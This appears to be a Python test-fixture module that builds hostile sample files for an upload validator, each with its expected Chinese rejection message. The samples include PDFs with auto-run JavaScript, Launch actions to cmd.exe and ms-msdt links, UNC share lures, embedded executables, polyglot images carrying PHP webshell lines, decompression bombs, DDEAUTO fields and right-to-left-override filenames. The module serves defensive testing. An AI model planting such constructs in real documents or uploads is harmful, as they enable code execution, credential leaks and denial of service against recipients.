"""Files that may not come in, each made by a published trick: `what -> (name, bytes, what is said of it)`.

A trick on a PDF is a function from bytes to bytes, so it works on any PDF. Not here: the tricks on Office files
(`hostile_office.py`).
"""

from __future__ import annotations

import zlib
from collections.abc import Callable
from io import BytesIO
from warnings import catch_warnings, simplefilter

import pikepdf

from .building import Office, chunk, jpeg_with, office, picture, png_with, raw_pdf, saved_pdf, stream, zipped
from .everyday import external_book, report_pdf, sheet, slides, template, with_field, word
from .hostile_office import ANY_TRICKS, ARCHIVES, BOOK_TRICKS, LINKS, NET, OLE, PICTURED, SLIDE_TRICKS, WORD_TRICKS


def _restricted(user: str = "") -> bytes:
    def change(made: pikepdf.Pdf) -> None:
        made.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")

    return saved_pdf(change, encryption=pikepdf.Encryption(owner="x", user=user))


def action(content: bytes, where: bytes = b"/OpenAction") -> bytes:
    return raw_pdf(content, catalog=where + b" 4 0 R")


def on_page(content: bytes) -> bytes:
    """An action of a link on the page."""
    return raw_pdf(b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A " + content + b" >>").replace(
        b"/MediaBox", b"/Annots [4 0 R] /MediaBox"
    )


def packed(content: bytes, filtered: bool = True) -> bytes:
    """A PDF with an object in an object stream, and with a cross-reference stream."""
    rows = b"5 0 " + content
    inside = zlib.compress(rows, 9) if filtered else rows
    made = raw_pdf(
        stream(b"/Type /ObjStm /N 1 /First 4" + (b" /Filter /FlateDecode" if filtered else b""), inside).replace(
            b"4 0 obj", b"9 0 obj"
        ),
        catalog=b"/OpenAction 5 0 R",
    )
    return made[: made.index(b"xref\n")] + _stream_table(made)


def _stream_table(made: bytes) -> bytes:
    places = [made.index(b"\n%d 0 obj" % number) + 1 for number in (1, 2, 3, 4)]
    at = made.index(b"xref\n")
    rows = [(0, 0, 255), *((1, place, 0) for place in places), (2, 4, 0), (1, at, 0)]
    table = b"".join(bytes([kind]) + place.to_bytes(4, "big") + bytes([last]) for kind, place, last in rows)
    return (
        b"6 0 obj\n"
        + stream(b"/Type /XRef /Size 7 /W [1 4 1] /Root 1 0 R", table)
        + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % at
    )


JS = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
_EMBEDDED = b"<< /Type /Filespec /F (a.exe) /UF (a.exe) /EF << /F 5 0 R >> >>"

PDFS: dict[str, tuple[Callable[[], bytes], str]] = {
    "a script when opened": (lambda: action(JS), "脚本"),
    "a script in other letters": (lambda: action(JS.replace(b"JavaScript", b"Java#53cript")), "脚本"),
    "a script in a stream": (lambda: raw_pdf(b"<< /S /JavaScript /JS 5 0 R >>", stream(b"", b"app.alert(1)"), catalog=b"/OpenAction 4 0 R"), "脚本"),
    "a script by name": (lambda: raw_pdf(b"<< /Names [(a) 5 0 R] >>", JS, catalog=b"/Names << /JavaScript 4 0 R >>"), "脚本"),
    "a script of a page": (lambda: raw_pdf(JS).replace(b"/MediaBox", b"/AA << /O 4 0 R >> /MediaBox"), "第 1 页含有脚本"),
    "a script of a link": (lambda: on_page(JS), "第 1 页含有脚本"),
    "a script of a field": (lambda: raw_pdf(b"<< /FT /Tx /T (a) /AA << /K 5 0 R >> >>", JS, catalog=b"/AcroForm << /Fields [4 0 R] >>"), "脚本"),
    "a script when closed": (lambda: raw_pdf(JS, catalog=b"/AA << /WC 4 0 R >>"), "脚本"),
    "a script after another action": (lambda: action(b"<< /S /GoTo /D [3 0 R /Fit] /Next [" + JS + b"] >>"), "脚本"),
    "a script of a bookmark": (lambda: raw_pdf(b"<< /Title (a) /A " + JS + b" >>", catalog=b"/Outlines << /First 4 0 R >>"), "脚本"),
    "a script of a rendition": (lambda: on_page(b"<< /S /Rendition /OP 0 /JS (x) >>"), "脚本"),
    "a packed script": (lambda: packed(JS), "脚本"),
    "a script packed without compression": (lambda: packed(JS, filtered=False), "脚本"),
    "a script with its table broken": (lambda: action(JS).replace(b"startxref\n", b"startxref\n9"), "脚本"),
    "a script that the owner restricts": (_restricted, "脚本"),
    "a script as a link": (lambda: on_page(b"<< /S /URI /URI (javascript:alert\\(1\\)) >>"), "启动程序"),
    "a link to a program": (lambda: on_page(b"<< /S /URI /URI (file:///C:/Windows/System32/cmd.exe) >>"), "启动程序"),
    "a link to a program's scheme": (lambda: on_page(b"<< /S /URI /URI (ms-msdt:/id) >>"), "启动程序"),
    "a link to another file that is a program": (lambda: on_page(b"<< /S /GoToR /F (a.exe) /D [0 /Fit] >>"), "启动程序"),
    "a file on a share under its other name": (lambda: on_page(b"<< /S /GoToR /F << /UF (a.pdf) /F (\\\\\\\\example.invalid\\\\a) >> /D [0 /Fit] >>"), "外部文件"),
    "a program": (lambda: action(b"<< /S /Launch /F (cmd.exe) >>"), "启动程序"),
    "a program of a link": (lambda: on_page(b"<< /S /Launch /Win << /F (cmd.exe) >> >>"), "启动程序"),
    "a page of the net when opened": (lambda: action(b"<< /S /URI /URI (https://example.invalid) >>"), "自动执行"),
    "another file when opened": (lambda: action(b"<< /S /GoToR /F (b.pdf) /D [0 /Fit] >>"), "自动执行"),
    "a file on a share (BadPDF)": (lambda: raw_pdf(b"<< /S /GoToR /F (\\\\\\\\example.invalid\\\\a) /D [0 /Fit] >>").replace(b"/MediaBox", b"/AA << /O 4 0 R >> /MediaBox"), "外部文件"),
    "a file on a share by a link": (lambda: on_page(b"<< /S /GoToR /F << /F (\\\\\\\\example.invalid\\\\a) >> /D [0 /Fit] >>"), "外部文件"),
    "a film of a share when opened": (lambda: action(b"<< /S /Rendition /OP 0 /R << /S /MR /C << /S /MCD /D << /F (\\\\\\\\example.invalid\\\\a) >> >> >> >>"), "外部文件"),
    "a page of another file, shown in this one": (lambda: raw_pdf(stream(b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F (\\\\\\\\example.invalid\\\\a.pdf) /Page 0 >>", b"")), "外部文件"),
    "a picture to be had elsewhere (OPI)": (lambda: raw_pdf(stream(b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /OPI << /1.3 << /F (https://example.invalid/a) >> >>", b"")), "外部文件"),
    "a base for all links": (lambda: raw_pdf(catalog=b"/URI << /Base (ms-msdt:) >>"), "启动程序"),
    "a command of the reader when opened": (lambda: action(b"<< /S /Named /N /AcroSendMail:SendMail >>"), "自动执行"),
    "a script under a name elsewhere": (lambda: raw_pdf(b"<< /S 5 0 R /JS (x) >>", b"/JavaScript", catalog=b"/OpenAction 4 0 R"), "脚本"),
    "a program under a name elsewhere": (lambda: raw_pdf(b"<< /S 5 0 R /F (cmd.exe) >>", b"/Launch", catalog=b"/OpenAction 4 0 R"), "启动程序"),
    "a form that is sent": (lambda: on_page(b"<< /S /SubmitForm /F (https://example.invalid) >>"), "发送表单"),
    "a form that is filled": (lambda: on_page(b"<< /S /ImportData /F (a.fdf) >>"), "自动取数"),
    "an embedded file opened": (lambda: action(b"<< /S /GoToE /T << /N (a) /R /C >> >>"), "嵌入的文件"),
    "an attachment": (lambda: raw_pdf(_EMBEDDED, stream(b"/Type /EmbeddedFile", b"MZ"), catalog=b"/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>"), "嵌入"),
    "an attachment pinned to a page": (lambda: raw_pdf(b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 5 0 R >>", _EMBEDDED.replace(b"5 0", b"6 0"), stream(b"/Type /EmbeddedFile", b"MZ")).replace(b"/MediaBox", b"/Annots [4 0 R] /MediaBox"), "第 1 页嵌入"),
    "an associated file": (lambda: raw_pdf(_EMBEDDED, stream(b"", b"MZ"), catalog=b"/AF [4 0 R]"), "嵌入"),
    "a portfolio": (lambda: raw_pdf(_EMBEDDED, stream(b"/Type /EmbeddedFile", b"MZ"), catalog=b"/Collection << >> /AF [4 0 R]"), "嵌入"),
    "a stream that lies elsewhere": (lambda: raw_pdf(stream(b"/F (https://example.invalid)", b"")), "外部文件"),
    "a dynamic form": (lambda: raw_pdf(stream(b"", b"<xdp/>"), catalog=b"/AcroForm << /XFA 4 0 R /Fields [] >>"), "XFA"),
    "rich media": (lambda: raw_pdf(b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>").replace(b"/MediaBox", b"/Annots [4 0 R] /MediaBox"), "多媒体"),
    "a model with a script": (lambda: raw_pdf(stream(b"/Type /3D /Subtype /U3D /OnInstantiate 5 0 R", b"x"), stream(b"", b"x")), "脚本"),
    "PostScript": (lambda: raw_pdf(stream(b"/Type /XObject /Subtype /PS", b"x")), "多媒体"),
    "a password": (lambda: _restricted("secret"), "密码"),
    "a bomb of packed objects": (lambda: packed(JS + b" " * (400 * 2**20)), "内容过多"),
    "an archive after it": (lambda: raw_pdf() + zipped({"a.exe": b"MZ"}), "藏有另一个文件"),
    "an archive in a stream": (lambda: raw_pdf(stream(b"", b"x")).replace(b"%%EOF", zipped({"a": b"b"}) + b"%%EOF"), "藏有另一个文件"),
    "a page of HTML before it": (lambda: b"<html><script>x</script>\n" + raw_pdf(), "开头藏有"),
    "a picture before it": (lambda: picture("JPEG", (8, 8))[:600] + raw_pdf(), ""),
    "a program before it": (lambda: b"MZ" + bytes(90) + raw_pdf(), ""),
    "much after it": (lambda: raw_pdf() + bytes(range(1, 256)) * 20, "附有其他内容"),
    "no end": (lambda: raw_pdf()[:-8], "已损坏"),
    "no page": (lambda: raw_pdf().replace(b"/Count 1", b"/Count 0").replace(b"[3 0 R]", b"[     ]"), "已损坏"),
    "pages in a circle": (lambda: raw_pdf().replace(b"/Kids [3 0 R]", b"/Kids [2 0 R]"), "已损坏"),
}  # fmt: skip
"""PDF files, written by hand."""


def _acting(content: bytes) -> Callable[[bytes], bytes]:
    """A trick that adds an action to the last page of any PDF."""

    def change(data: bytes) -> bytes:
        with pikepdf.open(BytesIO(data)) as opened:
            made = opened.make_indirect(pikepdf.Object.parse(content))
            opened.pages[-1].obj.AA = pikepdf.Dictionary(O=made)
            saved = BytesIO()
            opened.save(saved, object_stream_mode=pikepdf.ObjectStreamMode.generate)
        return saved.getvalue()

    return change


def _catalogued(key: str, content: bytes) -> Callable[[bytes], bytes]:
    def change(data: bytes) -> bytes:
        with pikepdf.open(BytesIO(data)) as opened, catch_warnings():
            simplefilter("ignore", pikepdf.PageCopyWarning)
            opened.Root[key] = opened.make_indirect(pikepdf.Object.parse(content))
            saved = BytesIO()
            opened.save(saved)
        return saved.getvalue()

    return change


def _attached(data: bytes) -> bytes:
    with pikepdf.open(BytesIO(data)) as opened:
        opened.attachments["a.exe"] = b"MZ" + bytes(90)
        saved = BytesIO()
        opened.save(saved)
    return saved.getvalue()


PDF_TRICKS: dict[str, tuple[Callable[[bytes], bytes], str]] = {
    "a script of a page": (_acting(JS), "脚本"),
    "a program of a page": (_acting(b"<< /S /Launch /F (cmd.exe) >>"), "启动程序"),
    "a share of a page": (_acting(b"<< /S /GoToR /F (\\\\\\\\example.invalid\\\\a) /D [0 /Fit] >>"), "外部文件"),
    "a page of the net": (_acting(b"<< /S /URI /URI (https://example.invalid) >>"), "自动执行"),
    "a form that is sent": (_acting(b"<< /S /SubmitForm /F (https://example.invalid) >>"), "发送表单"),
    "a script when opened": (_catalogued("/OpenAction", JS), "脚本"),
    "a script by name": (_catalogued("/Names", b"<< /JavaScript << /Names [(a) " + JS + b"] >> >>"), "脚本"),
    "a dynamic form": (_catalogued("/AcroForm", b"<< /Fields [] /XFA [(a) (b)] >>"), "XFA"),
    "an attachment": (_attached, "嵌入"),
    "an archive after it": (lambda data: data + zipped({"a.exe": b"MZ"}), "藏有另一个文件"),
    "HTML before it": (lambda data: b"<!doctype html>" + data, "开头藏有"),
}  # fmt: skip
"""Tricks on a PDF of any origin."""


PICTURES: dict[str, tuple[str, Callable[[], bytes], str]] = {
    "a RAR after it": ("a.jpg", lambda: picture("JPEG") + b"Rar!\x1a\x07\x00" + bytes(90), "藏有另一个文件"),
    "a 7z after it": ("a.jpg", lambda: picture("JPEG") + b"7z\xbc\xaf\x27\x1c" + bytes(90), "藏有另一个文件"),
    "a ZIP after it": ("a.jpg", lambda: picture("JPEG") + zipped({"a": b"b"}), "藏有另一个文件"),
    "a program after it": ("a.jpg", lambda: picture("JPEG") + b"MZ" + bytes(90), "藏有另一个文件"),
    "a PDF after a PNG": ("a.png", lambda: picture() + raw_pdf(), ""),
    "a ZIP in a PNG": ("a.png", lambda: png_with(chunk(b"zzZz", zipped({"a": b"b"}))), "藏有另一个文件"),
    "a ZIP after a PNG": ("a.png", lambda: picture() + zipped({"a": b"b"}), "藏有另一个文件"),
    "a RAR in a PNG": ("a.png", lambda: png_with(chunk(b"zzZz", b"Rar!\x1a\x07\x00" + bytes(90))), "藏有另一个文件"),
    "a program in a JPEG": ("a.jpg", lambda: jpeg_with(0xEF, b"MZ\x90\0" + bytes(90)), "藏有另一个文件"),
    "PHP in a JPEG's words": ("a.jpg", lambda: jpeg_with(0xFE, b"<?php system($_GET[0]); ?>"), "程序代码"),
    "PHP in a JPEG's place and time": ("a.jpg", lambda: jpeg_with(0xE1, b"Exif\0\0<?php eval($x) ?>"), "程序代码"),
    "a script in a PNG's words": ("a.png", lambda: png_with(chunk(b"tEXt", b"Comment\0<script>alert(1)</script>")), "程序代码"),
    "a script in a PNG's packed words": ("a.png", lambda: png_with(chunk(b"zTXt", b"Comment\0\0" + zlib.compress(b"<script>x</script>"))), "程序代码"),
    "a bomb in a PNG's words": ("a.png", lambda: png_with(chunk(b"zTXt", b"Comment\0\0" + zlib.compress(bytes(60 * 2**20)))), "压缩炸弹"),
    "a bomb in a PNG's colours": ("a.png", lambda: png_with(chunk(b"iCCP", b"x\0\0" + zlib.compress(bytes(60 * 2**20)))), "压缩炸弹"),
    "a picture that is a script": ("a.jpg", lambda: b"\xff\xd8\xff\xe0\x2f\x2a" + b"A" * 0x2F28 + picture("JPEG")[2:], "脚本"),
    "a picture that is a PDF": ("a.jpg", lambda: jpeg_with(0xFE, b"%PDF-1.4"), "藏有另一个文件"),
    "too many pixels": ("a.png", lambda: b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", bytes([0, 0, 234, 96] * 2 + [8, 0, 0, 0, 0])) + chunk(b"IEND", b""), "尺寸过大"),
    "no pixels": ("a.png", lambda: b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", bytes([0, 0, 0, 0] * 2 + [8, 0, 0, 0, 0])) + chunk(b"IEND", b""), "已损坏"),
    "fewer pixels than it says": ("a.png", lambda: b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", bytes([0, 0, 1, 0] * 2 + [8, 0, 0, 0, 0])) + chunk(b"IDAT", zlib.compress(b"x")) + chunk(b"IEND", b""), "已损坏"),
    "half a PNG": ("a.png", lambda: picture()[:-40], "已损坏"),
    "a changed PNG": ("a.png", lambda: picture()[:60] + b"?" + picture()[61:], "已损坏"),
    "half a JPEG": ("a.jpg", lambda: picture("JPEG", (900, 900))[:2000], "已损坏"),
    "a JPEG without pixels": ("a.jpg", lambda: b"\xff\xd8\xff\xe0\0\4ab\xff\xd9", "已损坏"),
    "a JPEG of too many pixels": ("a.jpg", lambda: picture("JPEG").replace(b"\xff\xc0\0\x11\x08\0\x30\0\x40", b"\xff\xc0\0\x11\x08\xf0\x30\xf0\x40"), "尺寸过大"),
}  # fmt: skip

NAMES: dict[str, tuple[str, Callable[[], bytes], str]] = {
    "nothing": ("a.docx", bytes, "空的"),
    "too many bytes": ("a.txt", lambda: b"a" * (20 * 2**20 + 1), "超过 20 MB"),
    "a program": ("a.exe", lambda: b"MZ" + bytes(100), "“exe”"),
    "no ending": ("a", lambda: b"abc", "“无后缀”"),
    "an old Word file": ("a.doc", lambda: OLE, "另存为”，保存为 .docx"),
    "an old Excel file": ("a.xls", lambda: OLE, "保存为 .xlsx"),
    "a file of WPS": ("a.wps", lambda: OLE, "保存为 .docx"),
    "a sheet of WPS": ("a.et", lambda: OLE, "保存为 .xlsx"),
    "a picture of an iPhone": ("a.HEIC", lambda: b"\0\0\0\x18ftypheic", "JPEG"),
    "a page of HTML": ("a.html", lambda: b"<script>alert(1)</script>", "“html”"),
    "a drawing": ("a.svg", lambda: b"<svg/>", "“svg”"),
    "an archive": ("a.zip", lambda: zipped({"a": b"b"}), "逐个上传"),
    "a file with macros by its ending": ("a.docm", word, "“docm”"),
    "a program called PDF": ("a.pdf", lambda: b"MZ" + bytes(100), "不是 pdf"),
    "an archive called Word": ("a.docx", lambda: zipped({"a.txt": b"b"}), "已损坏"),
    "Excel called Word": ("a.docx", sheet, "Excel 工作簿"),
    "a picture called PDF": ("a.pdf", picture, "PNG 图片"),
    "an old Word file called docx": ("a.docx", lambda: OLE, "只改了后缀"),
    "a Word file with a password": ("a.docx", lambda: OLE + "EncryptedPackage".encode("utf-16-le"), "打开密码"),
    "bytes called text": ("a.txt", lambda: bytes(range(256)), "不是纯文本"),
    "a program called text": ("a.txt", lambda: b"MZ\x90\0\3\0\0\0" + bytes(200), "不是纯文本"),
    "a Word file called text": ("a.txt", word, "不是纯文本"),
    "a name that reads backwards": ("a\u202excod.exe", lambda: b"MZ", "“exe”"),
}  # fmt: skip


def _played(trick: Callable[[Office], object], on: Callable[[], bytes]) -> Callable[[], bytes]:
    def made() -> bytes:
        data = Office(on())
        trick(data)
        return data.data()

    return made


HOSTILE: dict[str, tuple[str, Callable[[], bytes], str]] = {
    **{f"name: {what}": one for what, one in NAMES.items()},
    **{f"picture: {what}": one for what, one in PICTURES.items()},
    **{f"docx: {what}": ("a.docx", _played(trick, word), why) for what, (trick, why) in WORD_TRICKS.items() if what not in LINKS | PICTURED},
    **{f"xlsx: {what}": ("a.xlsx", _played(trick, sheet), why) for what, (trick, why) in BOOK_TRICKS.items() if what not in ANY_TRICKS},
    **{f"pptx: {what}": ("a.pptx", _played(trick, slides), why) for what, (trick, why) in SLIDE_TRICKS.items() if what not in ANY_TRICKS},
    **{f"archive: {what}": ("a.docx", (lambda change=change: change(word())), why) for what, (change, why) in ARCHIVES.items()},
    **{f"pdf: {what}": ("a.pdf", make, why) for what, (make, why) in PDFS.items()},
    **{f"pdf of a program: {what}": ("a.pdf", (lambda change=change: change(report_pdf())), why) for what, (change, why) in PDF_TRICKS.items()},
    "docx: the least": ("a.docx", lambda: office("docx", '<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DDE a</w:instrText></w:r></w:p>'), "DDE"),
    "docx: a template in the settings": ("a.docx", lambda: template(NET), "模板"),
    "docx: a field by hand": ("a.docx", lambda: with_field(" DDEAUTO cmd "), "DDEAUTO"),
    "xlsx: figures on the net": ("a.xlsx", lambda: external_book(NET), "外部文件"),
}  # fmt: skip
